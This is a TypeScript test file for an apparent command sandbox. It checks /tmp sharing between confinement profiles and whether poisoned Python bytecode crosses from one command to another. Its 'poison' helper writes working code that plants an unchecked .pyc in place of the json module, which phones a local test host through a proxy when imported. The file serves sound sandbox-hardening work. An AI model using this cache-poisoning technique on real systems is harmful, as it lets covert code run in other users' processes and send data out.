import { createServer } from 'node:net'
import { join } from 'node:path'
import { describe, expect, onTestFinished, test } from 'vitest'
import { skipped, unavailable } from '../../../test/bubblewrap-kit.ts'
import { confinedPlace, readOnly, workspaceWrite, write } from '../../../test/confinement-kit.ts'
import { findProgram } from '../../../test/system-programs.ts'

describe.skipIf(unavailable)(`the temporary folder of commands${skipped}`, () => {
  test('only commands that reach the same share it', async () => {
    const { outside, run } = await confinedPlace()
    write(outside, { 'a.txt': 'a' })
    const reach = [
      workspaceWrite,
      { ...workspaceWrite, hosts: ['a.test'] },
      { ...workspaceWrite, hosts: ['a.test', 'b.test'] },
      { ...workspaceWrite, hosts: 'any' },
      { ...workspaceWrite, reads: [join(outside, 'a.txt')] },
      { ...workspaceWrite, writes: [outside] },
      { ...workspaceWrite, home: 'readable' },
      { ...readOnly, hosts: ['a.test'] },
    ] as const
    for (const [n, one] of reach.entries())
      expect(
        (await run(`ls -A /tmp | grep mine; echo ${n} >/tmp/mine-${n}; mkdir -p $TMPDIR/.cache`, one)).stdout,
      ).toBe('')
    for (const [n, one] of reach.entries()) {
      expect((await run('cd /tmp; ls -d mine*; cat mine*; ls -d .cache', one)).stdout).toBe(`mine-${n}\n${n}\n.cache\n`)
    }
    expect((await run('cat /tmp/mine-2', { ...workspaceWrite, hosts: ['b.test', 'a.test', 'b.test'] })).stdout).toBe(
      '2\n',
    )
  })

  test.skipIf(!findProgram('python3'))(
    'compiled code that a command left in a cache is not run by one that was allowed to reach a host',
    async () => {
      const { cwd, run } = await confinedPlace()
      let got = ''
      const server = createServer(
        (socket) => void socket.on('data', (data) => void (got += data)).on('error', () => {}),
      )
      await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening))
      onTestFinished(() => void server.close())
      const address = server.address()
      const host = `localhost:${typeof address === 'object' && address !== null ? address.port : 0}`
      write(cwd, { 'poison.py': poison(host), 'report.py': 'import json\nprint("report")\n' })
      expect((await run('python3 poison.py && python3 report.py', workspaceWrite)).stdout).toMatch(/^poisoned\n/)
      expect((await run('python3 report.py', { ...workspaceWrite, hosts: [host] })).stdout).toBe('report\n')
      expect(got).toBe('')
    },
  )
})

/** Puts a compiled module that is not compared with its source where Python looks first: it connects to the host. */
const poison = (host: string): string => `
import importlib.util, importlib._bootstrap_external as x, json, os
source = '''
print("poisoned")
import socket
try:
    c = socket.create_connection(("127.0.0.1", 3128), 3)
    c.sendall(b"CONNECT ${host} HTTP/1.1\\\\r\\\\n\\\\r\\\\n"); c.recv(100); c.sendall(b"CANARY"); c.close()
except Exception as e: print(e)
''' + open(json.__file__).read()
path = importlib.util.cache_from_source(json.__file__)
os.makedirs(os.path.dirname(path), exist_ok=True)
open(path, 'wb').write(x._code_to_hash_pyc(compile(source, json.__file__, 'exec'), b'12345678', False))
`
